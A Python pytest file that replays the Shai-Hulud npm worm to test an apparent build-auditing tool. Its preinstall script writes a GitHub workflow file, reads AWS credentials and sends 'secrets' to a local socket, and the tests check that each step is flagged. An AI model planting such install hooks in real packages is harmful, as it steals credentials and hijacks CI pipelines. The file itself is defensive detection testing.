"""Shai-Hulud (September 2025): a worm in install scripts that wrote workflows and called home."""

import contextlib
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.scenarios.test_06_nx import build, npm_project

SCRIPT = """
const fs = require("fs"), net = require("net");
fs.mkdirSync(process.env.INIT_CWD + "/.github/workflows", {{ recursive: true }});
fs.writeFileSync(process.env.INIT_CWD + "/.github/workflows/discussion.yaml", "on: discussion\\n");
try {{ fs.readFileSync(process.env.HOME + "/.aws/credentials"); }} catch {{}}
net.connect({port}, "127.0.0.1").on("error", () => {{}}).end("secrets");
"""


@pytest.fixture
def home() -> Iterator[int]:
    """Somebody who waits for secrets; the port."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        waiting = threading.Thread(target=lambda: _take(listening), daemon=True)
        waiting.start()
        yield listening.getsockname()[1]
        listening.shutdown(socket.SHUT_RDWR)  # to close it would not wake who waits
        waiting.join()


def _take(listening: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while True:
            listening.accept()[0].close()


def test_a_worm_is_seen_by_what_it_reaches_reads_and_writes(tmp_path: Path, home: int) -> None:
    pipeline = npm_project(tmp_path, {"preinstall": "node script.js"}, SCRIPT.format(port=home))
    pipeline.at_home(".aws/credentials", "[default]\n")
    pipeline.run("sh", "-c", "npm ci --offline --silent --no-audit && npm pack --silent")
    judged = pipeline.judge("app-1.0.0.tgz")
    assert {"network-allowed", "secrets-untouched", "outputs-explained"} <= judged.rules
    [(_, reached)] = judged.said_by("network-allowed")
    assert reached == f"connect 127.0.0.1 port {home} by node script.js"
    written = dict(judged.said_by("outputs-explained"))
    assert written[".github/workflows/discussion.yaml of step build"].startswith(
        "a pipeline definition, written during the step by node script.js"
    )


def test_the_build_without_scripts_ships(tmp_path: Path, home: int) -> None:
    pipeline = npm_project(tmp_path, {"preinstall": "node script.js"}, SCRIPT.format(port=home))
    pipeline.at_home(".aws/credentials", "[default]\n")
    build(pipeline, "--ignore-scripts")
    assert pipeline.judge("app-1.0.0.tgz").complaints == []
